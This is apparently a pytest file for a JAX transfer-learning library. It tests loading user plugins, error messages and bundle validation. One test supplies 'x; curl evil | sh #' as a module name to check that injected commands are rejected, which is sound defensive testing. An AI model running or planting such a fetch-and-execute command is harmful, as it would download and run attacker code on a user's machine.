"""One of each of what a user may add, from a module outside the package: in Python, and by --import."""

import gc
import json
import os
import subprocess
import sys
import textwrap
import weakref
from pathlib import Path

import jax.numpy as jnp
import numpy as np
import pytest

from tests.tasks import small
from tl_jax.config import recipe, stored
from tl_jax.data.registry import DATASETS
from tl_jax.models.registry import MODELS
from tl_jax.pretrained import formats
from tl_jax.train import workdir
from tl_jax.train.task import TASKS
from tl_jax.transfer import regularizers
from tl_jax.transfer.methods import METHODS
from tl_jax.transfer.regularizers import REGULARIZERS
from tl_jax.transferability.registry import SCORES
from tl_jax.utils import plugins
from tl_jax.utils.errors import UserError

ROOT = Path(__file__).parents[1]
REGISTRIES = (MODELS, TASKS, METHODS, REGULARIZERS, SCORES, *DATASETS.values())

PLUGIN = """
from functools import partial

import flax.linen as nn
import jax.numpy as jnp
import numpy as np

from tl_jax import models
from tl_jax.data.dataset import Dataset, Split
from tl_jax.data.registry import register_dataset
from tl_jax.metrics import Evaluation
from tl_jax.metrics.classification import collect_predictions
from tl_jax.models.backbone import Backbone
from tl_jax.tasks.image_classification import ImageClassification
from tl_jax.train.task import register_task
from tl_jax.transfer.methods import register_method
from tl_jax.transfer.regularizers import register_regularizer
from tl_jax.transferability.registry import register_score


class Stage(nn.Module):
    @nn.compact
    def __call__(self, x, train):
        return nn.relu(nn.Conv(8, (3, 3), strides=2, name="conv")(x))


@models.register_model("own_net")
class Own(Backbone):
    layouts = ("tl_jax",)

    def named_stages(self):
        return [(f"stage{i}", partial(Stage, name=f"stage{i}")) for i in (1, 2)]


@register_task("own_task")
class TopTwo(ImageClassification):
    about = "images with a class each, of which two may be named"

    def __init__(self, *args):
        super().__init__(*args)
        self.score, self.evaluates_outputs = "top2", True

    def evaluate(self, outputs, batches):
        probabilities, labels = predictions = collect_predictions(outputs, batches)
        best = np.argsort(-probabilities, 1)[:, :2]
        return Evaluation({"top2": float((best == labels[:, None]).any(1).mean())}, {}, predictions=predictions)


@register_regularizer("own_term", "mean square of the features; 0.1 say", needs_features=True)
def mean_square(inputs):
    return jnp.square(inputs.endpoints["features"]).mean()


@register_method(inputs="images")
def own_method(config):
    "Keep features small."
    config.regularize.own_term = 10.0


@register_dataset("own_data")
def read_data(options):
    rng = np.random.default_rng(0)
    labels = np.arange(120, dtype=np.int32) % 3
    images = rng.integers(0, 80, (120, 16, 16, 3), dtype=np.uint8)
    images[np.arange(120), :, :, labels] += 100  # red, green and blue
    return Dataset("coloured noise", Split(images[:80], labels[:80]), Split(images[80:], labels[80:]), ("r", "g", "b"))


@register_score("own_score")
def spread(features, labels, key):
    return float(np.std(features))
"""
RECIPE = """
from tl_jax.config import recipe
from tl_jax.transfer import methods


def get_config(variant=""):
    config = recipe.get_config("own_task")
    config.name, config.model.name = "own", "own_net"
    config.init.source, config.init.layout = "random", "tl_jax"
    config.data.name = "own_data"
    config.input.size, config.batch_size, config.epochs, config.save_every = 16, 20, 1.0, 1.0
    config.score = "accuracy"
    return recipe.variants(config, variant, **methods.METHODS)
"""


@pytest.fixture
def home(tmp_path):
    (tmp_path / "own_plugin.py").write_text(PLUGIN)
    (tmp_path / "own_recipe.py").write_text(RECIPE)
    return tmp_path


def run(home: Path, *arguments: str, code: int = 0) -> str:
    """Run the command in a folder, and return what it wrote."""
    environment = {**os.environ, "PYTHONPATH": str(ROOT), "MPLBACKEND": "agg"}
    command = [sys.executable, *arguments]
    done = subprocess.run(command, cwd=home, env=environment, capture_output=True, text=True, timeout=600)
    assert done.returncode == code, done.stdout + done.stderr
    return done.stdout + done.stderr


MAIN = ("-c", "from tl_jax.cli import main; main()")


@pytest.mark.slow
def test_all_of_it_works_on_the_command_line(home):
    out = run(home, *MAIN, "--import=own_plugin", "--config=own_recipe.py", "--workdir=run")
    assert "top2" in out
    summary = json.loads((home / "run" / "summary.json").read_text())
    assert summary["score"] == "top2" and summary["metrics"]["top2"] >= summary["metrics"]["accuracy"]
    assert json.loads((home / "run" / "facts.json").read_text())["modules"] == ["own_plugin"]
    # The method sets the strength of the regulariser, and the loss has its term.
    run(home, *MAIN, "--import=own_plugin", "--config=own_recipe.py:own_method", "--workdir=small")
    rows = [json.loads(line) for line in (home / "small" / "metrics.jsonl").read_text().splitlines()]
    assert any(row.get("penalty", 0) > 0 for row in rows)
    assert not any("penalty" in json.loads(line) for line in (home / "run" / "metrics.jsonl").read_text().splitlines())
    # A run and its bundle name the module that they need, and never import it.
    for mode in ("eval", "export"):
        line = run(home, *MAIN, f"--mode={mode}", "--workdir=run", code=2)
        assert (
            "error: run: needs the modules own_plugin; import them first in Python, or pass --import=own_plugin" in line
        )
        run(home, *MAIN, "--import=own_plugin.py", f"--mode={mode}", "--workdir=run")
    load = "from tl_jax import pretrained; "
    load += "print(pretrained.load(source='tl_jax', path='run/export').spec.model)"
    assert "pass --import=own_plugin" in run(home, "-c", load, code=1)
    assert "own_net" in run(home, "-c", "import own_plugin; " + load)


@pytest.mark.slow
def test_all_of_it_works_in_python(home):
    program = textwrap.dedent("""
        import own_plugin, own_recipe
        import numpy as np
        from tl_jax import transferability
        from tl_jax import training

        config = own_recipe.get_config("own_method")
        summary = training.train(config, "python_run")
        print(sorted(summary["metrics"]))
        x = np.random.default_rng(0).normal(size=(40, 3))
        print(transferability.report(x, np.arange(40) % 2, resamples=0).values()["own_score"], np.std(x))
    """)
    out = run(home, "-c", program)
    assert "'top2'" in out
    value, expected = map(float, out.strip().splitlines()[-1].split())
    np.testing.assert_allclose(value, expected, rtol=1e-6)


@pytest.mark.fast
@pytest.mark.parametrize(
    "text,message",
    [
        ("import nowhere_to_be_found", "broken: No module named 'nowhere_to_be_found'"),
        ("1 / 0", "raised ZeroDivisionError"),
        (
            "from tl_jax import models\nmodels.register_model('resnet18', dict)",
            "'resnet18' of broken is already registered by",
        ),
    ],
)
def test_a_module_that_cannot_be_imported_is_one_line(tmp_path, text, message):
    (tmp_path / "broken.py").write_text(text)
    try:
        with pytest.raises(UserError, match="--import=.*broken.py") as error:
            plugins.import_modules([str(tmp_path / "broken.py")])
        assert message in str(error.value)
        with pytest.raises(UserError, match="no module nothing_of_this_name"):
            plugins.import_modules(["nothing_of_this_name"])
    finally:
        sys.modules.pop("broken", None)
        sys.path.remove(str(tmp_path))


@pytest.mark.fast
def test_flags_of_imports_are_taken_out_wherever_they_stand():
    taken = plugins.take_imports(["run.py", "--mode=train", "--import=a", "--import", "b.py", "-import=c", "import=d"])
    assert taken == (["run.py", "--mode=train", "import=d"], ["a", "b.py", "c"])


@pytest.mark.fast
def test_every_entry_knows_its_module():
    for registry in REGISTRIES:
        assert {registry.module(name).partition(".")[0] for name in registry} == {"tl_jax"}


@pytest.mark.fast
@pytest.mark.parametrize(
    "mode,able",
    [
        ("predict", {"image", "detection", "faces", "text", "tokens"}),
        ("explain", {"image"}),
        ("play", {"policy"}),
        ("preview", set(TASKS)),
    ],
)
def test_a_kind_without_a_mode_says_so_before_anything_is_loaded(mode, able):
    for kind, cls in TASKS.items():
        if kind in able:
            cls.check_mode(mode)
        else:
            with pytest.raises(UserError, match=f"config.task={kind}: {mode} is not available; it is for config.task="):
                cls.check_mode(mode)


@pytest.mark.fast
def test_a_file_that_has_the_name_of_another_module_is_refused(tmp_path):
    (tmp_path / "random.py").write_text("")
    with pytest.raises(UserError, match="random is another module .*; rename the file"):
        plugins.import_modules([str(tmp_path / "random.py")])
    sys.path.remove(str(tmp_path))


@pytest.mark.fast
def test_a_term_that_is_registered_anew_gets_a_program_of_its_own():
    with REGULARIZERS.temporary():
        made = []
        for factor in (1.0, 2.0):

            def term(inputs, factor=factor):
                return jnp.float32(factor)

            regularizers.register_regularizer("own_again", "for tests")(term)
            chosen = regularizers.RegularizeConfig.from_dict({"own_again": 3.0})
            made.append((chosen, float(regularizers.penalty(chosen, {}, {}, {}, {}, {}))))
        assert [value for _, value in made] == [3.0, 6.0] and made[0][0] != made[1][0]


@pytest.mark.fast
@pytest.mark.parametrize("name", ["mixup", "dropout", "a.b", "endpoints"])
def test_a_regularizer_cannot_take_the_name_of_another_field(name):
    with pytest.raises(UserError, match=f"regularizer '{name}': the name is taken"):
        regularizers.register_regularizer(name, "")


@pytest.mark.fast
def test_a_run_does_not_need_a_module_that_it_did_not_use(tmp_path):
    """A registered term is in the configuration of each run, off; without its module the run is read as before."""
    with REGULARIZERS.temporary():
        regularizers.register_regularizer("own_unused", "for tests")(lambda inputs: jnp.zeros(()))
        config = recipe.get_config()
        assert config.regularize.own_unused == 0.0
        (tmp_path / "config.json").write_text(json.dumps(config.to_dict()))
    again = stored.get_config(str(tmp_path))
    assert not workdir.differences(config.to_dict(), again.to_dict()) and "own_unused" not in again.regularize


@pytest.mark.fast
@pytest.mark.parametrize("modules", [["x; curl evil | sh #"], ["a", 1], "a", {"a": 1}, ["\x1b[31m"], [""]])
def test_modules_of_a_bundle_are_names_of_modules(tmp_path, modules):
    content = {"format": "tl_jax bundle", "version": 1, "model": "resnet8", "task": "image", "files": {}}
    (tmp_path / "bundle.json").write_text(json.dumps({**content, "modules": modules}))
    with pytest.raises(UserError, match="modules is .*not a list of module names"):
        formats.read_bundle(tmp_path)
    (tmp_path / "bundle.json").write_text(json.dumps({**content, "modules": None}))
    assert formats.read_bundle(tmp_path)["model"] == "resnet8"


@pytest.mark.fast
def test_a_task_lets_go_of_its_data():
    """No cycle of references: what a run has loaded is freed with it, not at the next collection of garbage."""
    gc.disable()
    try:
        gone = weakref.ref(small.task())
        assert gone() is None
    finally:
        gc.enable()


@pytest.mark.slow
def test_a_field_that_is_none_is_told_with_the_line_that_sets_it(home):
    (home / "bad.py").write_text(RECIPE.replace("config.score = ", "config.optim.learning_rate = "))
    out = run(home, *MAIN, "--import=own_plugin", "--config=bad.py", "--workdir=x", code=2)
    assert "bad.py:12: unknown field 'learning_rate'; choose one of accumulate, " in out and "Traceback" not in out
